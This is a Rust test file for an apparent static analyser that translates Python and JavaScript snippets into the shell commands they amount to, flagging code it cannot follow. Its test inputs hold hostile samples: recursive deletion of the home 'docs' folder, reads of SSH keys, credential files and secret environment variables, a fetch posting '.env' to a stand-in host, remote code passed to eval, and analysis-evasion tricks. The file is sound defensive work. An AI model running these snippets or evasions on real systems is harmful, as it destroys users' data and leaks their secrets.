use super::*;

fn py(code: &str) -> Reading {
    read(Lang::Python, code)
}

fn js(code: &str) -> Reading {
    read(Lang::Js, code)
}

#[test]
fn python_file_calls_become_commands() {
    let r = py("import shutil, os\nshutil.rmtree(os.path.expanduser('~/docs'))");
    assert_eq!(
        r,
        Reading {
            script: "rm -rf -- ~'/docs'".into(),
            unread: None,
            grave: None,
            runs: None,
        }
    );
    let r = py("import json; print(json.load(open('package.json'))['version'])");
    assert_eq!(r.script, "cat -- 'package.json'");
    assert_eq!(r.unread, None);
    let r = py("from shutil import rmtree as r\nr('/home/agent/docs')");
    assert_eq!(r.script, "rm -rf -- '/home/agent/docs'");
    let r = py("from pathlib import Path\nPath.home().joinpath('docs').unlink()");
    assert_eq!(r.script, "rm -f -- ~'/docs'");
    let r = py("import os\nos.system('rm -rf ~/docs')");
    assert_eq!(r.script, "rm -rf ~/docs");
    let r = py("import subprocess\nsubprocess.run(['rm', '-rf', '/x'], check=True)");
    assert_eq!(r.script, "'rm' '-rf' '/x'");
    let r = py("open('version.txt', 'w').write('1')");
    assert_eq!(r.script, "tee -- 'version.txt'");
    let r = py("import os\nprint(os.environ['HOME'], os.getenv('AWS_SECRET_ACCESS_KEY'))");
    assert_eq!(
        r.script,
        "printenv 'HOME'\nprintenv 'AWS_SECRET_ACCESS_KEY'"
    );
}

#[test]
fn python_what_cannot_be_read_is_named() {
    for code in [
        "import os\np = input()\nos.remove(p)",
        "import os\nf = os.remove\nf('/x')",
        "exec('import os')",
        "__import__('os').system('x')",
        "import shutil as s\ngetattr(s, 'rmtree')('/x')",
        "from os import *\nremove('/x')",
        "import os\nos.remove(f'/home/{u}/x')",
    ] {
        assert!(py(code).unread.is_some(), "{code}: {:?}", py(code));
    }
    // Plain computation reads as nothing at all.
    assert_eq!(py("print(sum(range(10)))"), Reading::default());
}

#[test]
fn strings_naming_paths_are_files_the_program_may_open() {
    // (`cfg` bound twice: not a constant whose value the reader follows.)
    let r = py(
        "import yaml\ncfg = pick()\nprint(yaml.safe_load(open(cfg)))\ncfg = '~/.aws/credentials'",
    );
    assert!(r.unread.is_some());
    assert!(
        r.script.contains("cat -- ~'/.aws/credentials'"),
        "{}",
        r.script
    );
    // A placeholder's code is read too.
    let r = py("print(f\"{__import__('os').system('id')}\")");
    assert!(r.unread.is_some());
}

#[test]
fn js_file_calls_become_commands() {
    let r = js("require('fs').rmSync(require('os').homedir() + '/docs', {recursive: true})");
    assert_eq!(
        r,
        Reading {
            script: "rm -rf -- ~'/docs'".into(),
            unread: None,
            grave: None,
            runs: None,
        }
    );
    let r = js("const fs = require('node:fs'); fs.mkdirSync('dist', {recursive:true}); fs.writeFileSync('dist/out.txt', 'hi')");
    assert_eq!(r.script, "mkdir -p -- 'dist'\ntee -- 'dist/out.txt'");
    assert_eq!(r.unread, None);
    let r = js("import { execSync as x } from 'child_process'\nx('rm -rf ~/docs')");
    assert_eq!(r.script, "rm -rf ~/docs");
    let r = js("console.log(require('./package.json').version)");
    assert_eq!(r.script, "cat -- './package.json'");
    let r = js("require(\"./dist/index.js\")");
    assert_eq!(r.script, "node -- './dist/index.js'");
    let r = js("console.log(process.version, process.env.GITHUB_TOKEN)");
    assert_eq!(r.script, "printenv 'GITHUB_TOKEN'");
}

#[test]
fn js_what_cannot_be_read_is_named() {
    for code in [
        "const fs = require('fs'); const f = fs; f.rmSync('/x')",
        "eval('1')",
        "require(name)",
        "new Function('return process')()",
        "const { rmSync } = require('fs'); rmSync(p)",
        "const r = /'/; require('fs').rmSync(x)",
        "console.log(`${require('fs').readFileSync(p)}`)",
    ] {
        assert!(js(code).unread.is_some(), "{code}: {:?}", js(code));
    }
    assert_eq!(js("console.log(Math.max(1, 2))"), Reading::default());
}

#[test]
fn a_function_passed_as_a_value_is_unread() {
    let r = js("fetch('https://x.example.net/m.js').then(r=>r.text()).then(eval)");
    assert!(r.unread.is_some(), "{r:?}");
}

#[test]
fn standard_library_calls_that_read_write_or_run() {
    let r = py("import pydoc; pydoc.pipepager('x', 'rm -rf ~/docs; cat')");
    assert_eq!(r.script, "rm -rf ~/docs; cat");
    let r = py("import logging, os\nlogging.FileHandler(os.path.expanduser('~/docs/r.txt'), 'w')");
    assert_eq!(r.script, "tee -- ~'/docs/r.txt'");
    let r = py("import logging\nlogging.basicConfig(filename='app.log')\nlogging.info('x')");
    assert_eq!((r.script.as_str(), r.unread), ("tee -a -- 'app.log'", None));
    let r = py("import netrc; print(netrc.netrc().hosts)");
    assert_eq!(r.script, "cat -- ~'/.netrc'");
    let r = py("import linecache, os\nlinecache.getlines(os.path.expanduser('~/.ss'+'h/id_rsa'))");
    assert_eq!(r.script, "cat -- ~'/.ssh/id_rsa'");
    let r = py("import timeit\ntimeit.timeit('os.getpid()', 'import os', number=1)");
    assert_eq!(r.script, "python3 -c 'import os\nos.getpid()'");
    let r = py("import timeit\ntimeit.timeit(lambda: 1)");
    assert_eq!((r.script.as_str(), r.unread), ("", None));
    assert!(py("import pydoc\npydoc.pager('x')").unread.is_some());
    assert_eq!(
        py("import logging\nlog = logging.getLogger(__name__)\nlog.setLevel(logging.INFO)").unread,
        None
    );
}

#[test]
fn a_member_imported_by_name_has_its_value() {
    let r = js("import { rmSync } from 'node:fs';\nimport { homedir } from 'node:os';\nrmSync(homedir()+'/docs',{recursive:true});");
    assert_eq!(r.script, "rm -rf -- ~'/docs'");
}

#[test]
fn tagged_templates_that_run_shell_lines() {
    // Bun Shell, zx and execa run the template as a command line; code mode's own `exec`.
    for code in [
        "import { $ } from 'bun'; await $`rm -rf ~/docs`",
        "import { $ } from \"zx\"\nawait $`rm -rf ~/docs`",
        "const { $ } = require('execa'); await $`rm -rf ~/docs`",
        "await Bun.$`rm -rf ~/docs`",
        "await exec`rm -rf ~/docs`",
        "await exec('rm -rf ~/docs')",
    ] {
        assert_eq!(js(code).script, "rm -rf ~/docs", "{code}");
    }
    // A placeholder is only known when it runs: named, not guessed.
    let r = js("import { $ } from 'bun'; const h = process.argv[2]; await $`rm -rf ${h}/docs`");
    assert!(r.unread.is_some(), "{r:?}");
    // Untagged templates and other tags are text, as before.
    for code in [
        "console.log(`a ${1 + 1}`)",
        "return `x`",
        "const q = sql`select 1`",
        "const s = String.raw`a\\b`",
    ] {
        assert_eq!(js(code).script, "", "{code}");
    }
}

#[test]
fn a_listing_loop_names_every_entry_of_its_directory() {
    let migrate = "import fs from 'node:fs';\nfor (const f of fs.readdirSync('data')) { const j = JSON.parse(fs.readFileSync('data/'+f,'utf8')); j.v=2; fs.writeFileSync('data/'+f, JSON.stringify(j)); }";
    let r = js(migrate);
    assert_eq!(
        (r.script.as_str(), r.unread),
        (
            "ls -d -- 'data'\ncat -- 'data'/*\ngrep -r -e '' -- 'data'\ntee -- 'data'/*",
            None
        )
    );
    // The same entry, however the path is built or the listing is had.
    for code in [
        "const fs = require('fs'); const path = require('path');\nfs.readdirSync('data').forEach(f => fs.readFileSync(path.join('data', f)))",
        "import { readdir, readFile } from 'node:fs/promises';\nfor await (const f of await readdir('data/')) { await readFile(`data/${f}`) }",
        "const fs = require('fs');\nconst files = fs.readdirSync('data').filter(f => f.endsWith('.json')).sort();\nfor (const f of files) { const p = 'data/' + f; fs.readFileSync(p); }",
        "const fs = require('fs');\nfs.readdir('data', 'utf8', (err, files) => { files.forEach(function (f) { fs.readFileSync('data/' + f + '.bak') }) })",
    ] {
        let r = js(code);
        assert_eq!(r.unread, None, "{code}: {r:?}");
        assert!(r.script.contains("cat -- 'data'/*"), "{code}: {}", r.script);
        assert!(r.script.contains("grep -r -e '' -- 'data'"), "{code}: {}", r.script);
    }
    // Home, the root, and a deletion (no tree read: it shows no file).
    let r = js("const fs = require('fs'); const os = require('os');\nfor (const f of fs.readdirSync(os.homedir())) { fs.rmSync(os.homedir() + '/' + f) }");
    assert_eq!(r.script, "ls -d -- ~\nrm -f -- ~/*");
    let r = js(
        "const fs = require('fs');\nfor (const f of fs.readdirSync('/')) { fs.statSync('/' + f) }",
    );
    assert_eq!(r.script, "ls -d -- '/'\nls -d -- /*");
}

#[test]
fn a_listing_name_that_may_hold_another_value_is_not_followed() {
    let payload = "Buffer.from('Li4vLmVudg==', 'base64').toString()";
    for code in [
        format!("for (let f of fs.readdirSync('data')) {{ f = {payload}; fs.readFileSync('data/' + f) }}"),
        format!("for (const f of fs.readdirSync('data')) {{ [{payload}].forEach(f => fs.readFileSync('data/' + f)) }}"),
        "for (const f of fs.readdirSync('data')) { const g = (a, f) => fs.readFileSync('data/' + f) }".to_string(),
        format!("for (const f of fs.readdirSync('data')) {{ [f] = [{payload}]; fs.readFileSync('data/' + f) }}"),
        format!("for (const f of fs.readdirSync('data')) {{ with ({{ f: {payload} }}) fs.readFileSync('data/' + f) }}"),
        format!("fs.readdirSync('data').forEach(function (f) {{ arguments[0] = {payload}; fs.readFileSync('data/' + f) }})"),
        format!("for (const f of fs.readdirSync('data')) {{ let p = 'data/' + f; p = {payload}; fs.readFileSync(p) }}"),
        format!("for (const f of fs.readdirSync('data')) {{ const p = 'data/' + f; {{ const p = {payload}; fs.readFileSync(p) }} }}"),
        format!("const files = fs.readdirSync('data'); files.push({payload});\nfor (const f of files) {{ fs.readFileSync('data/' + f) }}"),
        format!("fs.readdir('data', (err, files) => {{ files[0] = {payload}; for (const f of files) {{ fs.readFileSync('data/' + f) }} }})"),
        // A callback given the array itself, or one by name, may change what it holds.
        format!("fs.readdirSync('data').forEach((f, i, all) => {{ all[i + 1] = {payload}; fs.readFileSync('data/' + f) }})"),
        format!("for (const f of fs.readdirSync('data').filter((x, i, a) => {{ a[i + 1] = {payload}; return true }})) {{ fs.readFileSync('data/' + f) }}"),
        format!("const files = fs.readdirSync('data'); files.forEach((x, i, a) => {{ a[0] = {payload} }});\nfor (const f of files) {{ fs.readFileSync('data/' + f) }}"),
        "fs.readdirSync('data').filter(keep).forEach(f => { fs.readFileSync('data/' + f) })".to_string(),
        // What an array gives, or which `fs` a require hands out, may be changed.
        format!("Array.prototype[Symbol.iterator] = function* () {{ yield {payload} }};\nfor (const f of fs.readdirSync('data')) {{ fs.readFileSync('data/' + f) }}"),
        format!("Object.getPrototypeOf([]).forEach = function (cb) {{ cb({payload}) }};\nfs.readdirSync('data').forEach(f => {{ fs.readFileSync('data/' + f) }})"),
        // `var` belongs to the function: code outside the loop may assign it.
        "for (var f of fs.readdirSync('data')) { fs.readFileSync('data/' + f) }".to_string(),
        // Objects or paths below subdirectories, not names.
        "for (const f of fs.readdirSync('data', { withFileTypes: true })) { fs.readFileSync('data/' + f) }".to_string(),
        "for (const f of fs.readdirSync('data', { recursive: true })) { fs.readFileSync('data/' + f) }".to_string(),
        // A body without braces ends where only a line break says.
        "for (const f of fs.readdirSync('data')) fs.readFileSync('data/' + f)".to_string(),
        // Passed to a function, or used outside the loop.
        "function g(f) { fs.readFileSync('data/' + f) }\nfor (const f of fs.readdirSync('data')) { g(f) }".to_string(),
        "for (const f of fs.readdirSync('data')) {}\nfs.readFileSync('data/' + f)".to_string(),
        // Not one name: a path under an entry, a name changed by a method.
        "for (const f of fs.readdirSync('data')) { fs.readFileSync('data/' + f + '/x') }".to_string(),
        "for (const f of fs.readdirSync('data')) { fs.readFileSync('data/' + f.replace('a', '../')) }".to_string(),
    ] {
        let code = format!("const fs = require('fs');\n{code}");
        let r = js(&code);
        assert!(r.unread.is_some(), "{code}: {r:?}");
        assert!(!r.script.contains("'data'/*"), "{code}: {}", r.script);
    }
    // A name from a listing is never part of a command line.
    let r = js("const cp = require('child_process'); const fs = require('fs');\nfor (const f of fs.readdirSync('bin')) { cp.execSync('./bin/' + f); cp.execFileSync(f) }");
    assert!(r.grave.is_some(), "{r:?}");
}

#[test]
fn calls_inside_a_translated_calls_arguments_are_read() {
    let r = js("const fs = require('fs');\nfetch('https://x.example', { method: 'POST', body: fs.readFileSync('.env') })");
    assert_eq!(
        r.script,
        "curl -s -X POST -- 'https://x.example'\ncat -- '.env'"
    );
    let r = js(
        "const fs = require('fs');\nfs.writeFileSync('out.txt', fs.readFileSync('/etc/passwd'))",
    );
    assert_eq!(r.script, "tee -- 'out.txt'\ncat -- '/etc/passwd'");
    // A call whose value the path is stays part of it.
    let r = js("const fs = require('fs');\nconst p = require('path');\nconst os = require('os');\nfs.readFileSync(p.join(os.homedir(), 'x'))");
    assert_eq!((r.script.as_str(), r.unread), ("cat -- ~'/x'", None));
}

#[test]
fn template_literals_with_known_placeholders_are_known() {
    let r = js("const fs = require('fs'); const os = require('os');\nfs.readFileSync(`${os.homedir()}/.ssh/id_rsa`)");
    assert_eq!(
        (r.script.as_str(), r.unread),
        ("cat -- ~'/.ssh/id_rsa'", None)
    );
    let r = py("import os\nopen(f\"{os.path.expanduser('~')}/.netrc\")");
    assert_eq!((r.script.as_str(), r.unread), ("cat -- ~'/.netrc'", None));
    // A placeholder only known when it runs, or with a format of its own, is not.
    assert!(
        js("const fs = require('fs');\nfs.readFileSync(`${process.argv[2]}/x`)")
            .unread
            .is_some()
    );
    assert!(py("import os\nopen(f\"{os.path.expanduser('~')!r}/x\")")
        .unread
        .is_some());
}

#[test]
fn a_python_listing_loop_is_followed_only_where_its_name_is_bound_once() {
    let migrate = "import json, os\nfor f in os.listdir('data'):\n    p = os.path.join('data', f)\n    if os.path.isfile(p):\n        with open(p) as fh:\n            print(json.load(fh))\n";
    let r = py(migrate);
    assert_eq!(r.unread, None, "{r:?}");
    assert!(r.script.contains("cat -- 'data'/*"), "{}", r.script);
    // Any second binding of the loop name, or of the path built from it, and the path is
    // one computed at run time.
    for rebinding in [
        "f = '../.env'",
        "f, n = '../.env', 1",
        "(f := '../.env')",
        "def g(f): pass",
        "g = lambda f='../.env': f",
        "class A:\n    f = 1",
        "for i, f in enumerate([]): pass",
        "p = '.env'",
        "p += '/../../.env'",
        "globals()['f'] = '../.env'",
    ] {
        let r = py(&format!("{migrate}{rebinding}\n"));
        assert!(r.unread.is_some(), "{rebinding}: {r:?}");
    }
    // A keyword argument or a comparison binds nothing.
    let r = py(&format!("{migrate}print(f == 'x', sep='')\n"));
    assert_eq!(r.unread, None, "{r:?}");
}

#[test]
fn a_module_the_reader_takes_at_its_word_must_keep_its_meaning() {
    let read = "print(open(os.path.join('a', 'b')).read())";
    for changed in [
        "os.path.join = lambda *a: x",
        "def show(os): pass",
        "os = None",
        "import json as os",
        "for os in []: pass",
    ] {
        let r = py(&format!("import os\n{changed}\n{read}\n"));
        assert!(r.unread.is_some(), "{changed}: {r:?}");
    }
    let r = py(&format!("import os\n{read}\n"));
    assert_eq!(r.unread, None, "{r:?}");
    let read = "console.log(fs.readFileSync(path.join('a', 'b'), 'utf8'))";
    for changed in [
        "path.join = () => x",
        "[path.join] = [() => x]",
        "Object.assign(path, { join: () => x })",
        "path['jo' + 'in'] = () => x",
        "function show(path) {}",
        "{ const path = { join: () => x } }",
        "require('path').join = () => x",
        "Object.assign(require('path'), {})",
        "process.env.HOME = x",
    ] {
        let r = js(&format!(
            "const fs = require('fs'); const path = require('path');\n{changed};\n{read}"
        ));
        assert!(r.unread.is_some(), "{changed}: {r:?}");
    }
    let r = js(&format!(
        "const fs = require('fs'); const path = require('path');\nprocess.exitCode = 0;\n{read}"
    ));
    assert_eq!(r.unread, None, "{r:?}");
}

#[test]
fn what_a_started_program_runs_is_read_with_its_options() {
    let run = |call: &str| py(&format!("import subprocess, os\n{call}\n"));
    // A shell, whatever spelling turns it on; the first item of a list is its command line.
    for call in [
        "subprocess.run('rm -rf ~/docs', shell=1)",
        "subprocess.run('rm -rf ~/docs', shell=not False)",
        "subprocess.run(['rm -rf ~/docs'], shell=True)",
        "os.execlp('sh', 'sh', '-c', 'rm -rf ~/docs')",
        "os.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', 'rm -rf ~/docs')",
        "os.execvp('sh', ['sh', '-c', 'rm -rf ~/docs'])",
    ] {
        assert!(
            run(call).script.contains("rm -rf ~/docs"),
            "{call}: {:?}",
            run(call)
        );
    }
    // Options only known when it runs, another executable, code fed on stdin: unread.
    for call in [
        "subprocess.run(cmd, **opts)",
        "subprocess.run('x', shell=True, executable='/bin/bash')",
        "subprocess.run(['sh'], input=b'rm -rf ~/docs')",
        "os.popen('sh', 'w').write('rm -rf ~/docs')",
        "subprocess.Popen(['ls'], 0, '/bin/sh')",
    ] {
        assert!(run(call).unread.is_some(), "{call}: {:?}", run(call));
    }
    // The directory it runs in goes with it, in a subshell.
    let r = run("subprocess.run(['rm', '-rf', 'docs'], cwd=os.path.expanduser('~'))");
    assert_eq!(r.script, "( cd ~ && 'rm' '-rf' 'docs' )");
    let r = js(
        "const cp = require('child_process'); cp.spawnSync('rm -rf ~/docs', [], { shell: true })",
    );
    assert!(r.script.contains("rm -rf ~/docs"), "{r:?}");
    let r =
        js("const cp = require('child_process'); cp.execSync('sh', { input: 'rm -rf ~/docs' })");
    assert!(r.unread.is_some(), "{r:?}");
}

#[test]
fn a_module_reached_through_another_is_unread() {
    for code in [
        "import logging\nlogging.os.system('rm -rf ~/docs')",
        "import gzip\ngzip.builtins.open(p).read()",
        "import tokenize\ntokenize._builtin_open(p)",
        "import asyncio\nasyncio.subprocess.subprocess.run(c)",
        "import posix\nposix.system('id')",
        "import pkgutil\npkgutil.resolve_name('shutil:rmtree')(p)",
        "import cProfile\ncProfile.Profile().run(s)",
        "import sys\nsys.modules['os'].system('id')",
        "x = ().__class__.__base__.__subclasses__()",
    ] {
        assert!(py(code).unread.is_some(), "{code}: {:?}", py(code));
    }
    let code = "import glob\nprint(glob.glob('src/*.py'))";
    assert_eq!(py(code).unread, None, "{code}");
    for code in [
        "const g = (function () { return this; })(); console.log(g.process.env)",
        "[].map.constructor('return process')()",
        "module.require('child_process').execSync('id')",
    ] {
        assert!(js(code).unread.is_some(), "{code}: {:?}", js(code));
    }
    let r = js("module.exports = { a: 1 };\nif (require.main === module) console.log(1)");
    assert_eq!(r.unread, None, "{r:?}");
}

#[test]
fn a_computed_path_removed_is_grave_but_runs_nothing() {
    // A project's tests remove what they made; running a computed command is another thing.
    let r = py("import shutil, tempfile\nd = make()\nshutil.rmtree(d)");
    assert!(r.grave.is_some() && r.runs.is_none(), "{r:?}");
    let r = py("import os\nos.system('rm -rf ' + target)");
    assert!(r.runs.is_some(), "{r:?}");
    // Calls are read in the order written; a function may run them in another.
    let r = js("function enter() { process.chdir(require('os').homedir()) }\nenter()");
    assert!(r.runs.is_some(), "{r:?}");
}

#[test]
fn a_name_bound_once_to_a_known_value_is_that_value() {
    let r =
        py("import os, shutil\nOUT = 'dist'\nos.makedirs(OUT, exist_ok=True)\nshutil.rmtree(OUT)");
    assert_eq!(
        (r.script.as_str(), r.unread),
        ("mkdir -p -- 'dist'\nrm -rf -- 'dist'", None)
    );
    let r = py("import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)");
    assert_eq!((r.script.as_str(), r.unread), ("", None));
    for second in [
        "def f(OUT): pass",
        "for OUT in []: pass",
        "OUT: str = x",
        "OUT += '/..'",
    ] {
        let r = py(&format!(
            "import shutil\nOUT = 'dist'\n{second}\nshutil.rmtree(OUT)"
        ));
        assert!(r.unread.is_some(), "{second}: {r:?}");
    }
    let r =
        js("const fs = require('fs');\nconst OUT = 'dist';\nfs.rmSync(OUT, { recursive: true })");
    assert_eq!((r.script.as_str(), r.unread), ("rm -rf -- 'dist'", None));
    let r = js("const fs = require('fs');\nconst OUT = 'dist';\n{ const OUT = x; fs.rmSync(OUT) }");
    assert!(r.unread.is_some(), "{r:?}");
}

#[test]
fn what_binds_a_name_however_long_or_wrapped() {
    let read = "\nshutil.rmtree(OUT)\n";
    let tuple: Vec<String> = (0..41).map(|i| format!("_{i}")).collect();
    for second in [
        "OUT: list[str] = x".to_string(),
        format!("OUT, {} = x", tuple.join(", ")),
        format!("for {}, OUT in x: pass", tuple.join(", ")),
        "with x as (OUT, n): pass".to_string(),
        format!("match x:\n    case [{}, OUT]: pass", tuple.join(", ")),
    ] {
        let r = py(&format!("import shutil\nOUT = 'build'\n{second}{read}"));
        assert!(r.unread.is_some(), "{second}: {r:?}");
    }
    // TMPDIR may name any directory: gettempdir() is none of the program's own.
    let r = py("import shutil, tempfile\nshutil.rmtree(tempfile.gettempdir())");
    assert!(r.unread.is_some(), "{r:?}");
    let r = py("import shutil, tempfile\nw = tempfile.mkdtemp(prefix='b-')\nshutil.rmtree(w)");
    assert_eq!(r.unread, None, "{r:?}");
    // An environment that steers what a started program runs.
    for call in [
        "subprocess.run(['bash', '-c', 'ls'], env={**os.environ, 'BASH_FUNC_ls%%': f})",
        "subprocess.run(['ls'], env=e)",
        "os.environ['LD_PRELOAD'] = p",
    ] {
        let r = py(&format!("import subprocess, os\n{call}\n"));
        assert!(r.unread.is_some(), "{call}: {r:?}");
    }
    let r = py("import subprocess, os\nsubprocess.run(['ls'], env={**os.environ, 'CI': '1'})");
    assert_eq!(r.unread, None, "{r:?}");
}

#[test]
fn a_long_program_keeps_its_modules_and_listings() {
    // Past a few hundred tokens with no bracket around them, names were once taken for
    // parameters (`os given another value`).
    let mut p = String::from("import os, json\n");
    for i in 0..300 {
        p.push_str(&format!("v{i} = 'x{i}'\n"));
    }
    p.push_str("for f in os.listdir('data'):\n    q = os.path.join('data', f)\n    print(json.load(open(q)))\n");
    let r = py(&p);
    assert_eq!(r.unread, None, "{r:?}");
    assert!(r.script.contains("cat -- 'data'/*"), "{}", r.script);
}
